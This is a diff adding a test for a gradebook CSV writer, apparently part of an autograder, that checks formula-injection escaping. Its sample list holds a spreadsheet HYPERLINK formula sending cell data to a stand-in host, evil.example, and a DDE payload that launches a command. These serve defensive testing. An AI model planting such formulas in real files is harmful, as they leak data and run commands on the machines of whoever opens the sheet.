@@ -72,6 +72,30 @@ def test_the_gradebook_has_ids_separate_extra_credit_a_points_row_and_imports(tm
     assert by["zed"]["base"] == "" and by["zed"]["status"] == "grader failed: exit 3: broken"
 
 
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1-555@uni.edu", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_a_gradebook_cell_a_spreadsheet_could_read_as_a_formula_is_text(tmp_path):
+    """OWASP's advice against CSV injection: a text cell that starts with = + - @, a tab or a carriage
+    return gets a leading ', and every text cell is wrapped in double quotes (its own doubled), so a
+    separator inside a cell cannot start a new one; numbers stay numbers. Names, ids and flags come from the submissions, so any of them may be such a cell."""
+    rows = [gradebook.row(bad, results_of(), student=bad, flags=[bad, "identical to a;=1+1"])
+            for bad in FORMULAS] + [gradebook.row("zed", None, error="=1+1")]
+    book = tmp_path / "book.csv"
+    gradebook.write(book, rows)
+    with open(book, newline="") as f:
+        table = list(csv.DictReader(f))[1:]
+    for bad, got in zip(FORMULAS, table):
+        assert (got["submission"], got["student_id"], got["flags"]) == \
+            ("'" + bad, "'" + bad, f"'{bad}; identical to a;=1+1"), got
+        assert float(got["base"]) == 100
+    assert table[-1]["status"] == "grader failed: =1+1"            # starts with a letter: kept as it is
+    text = book.read_text()
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"' in text and ',100.0,' in text
+    assert '\n"zed","zed","",' in text                                # text quoted, numbers bare
+
+
 def test_the_gradebook_without_the_bonus_has_no_bonus_columns(bonus_off):
     assert not {"extra_credit", "bonus_attempted", "total", "prefix_cache"} & set(gradebook.fields())
     assert {"student_id", "base", "flags", "from_zip", "seed"} <= set(gradebook.fields())
